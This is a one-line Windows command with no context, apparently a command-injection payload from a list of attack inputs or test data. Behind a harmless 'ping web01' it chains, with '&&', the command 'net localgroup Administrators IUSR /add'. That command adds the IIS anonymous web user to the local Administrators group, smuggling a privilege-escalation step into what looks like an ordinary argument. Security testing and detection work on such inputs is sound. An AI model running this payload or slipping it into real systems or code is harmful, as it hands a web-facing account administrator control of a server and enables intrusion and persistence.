ping web01 && net localgroup Administrators IUSR /add
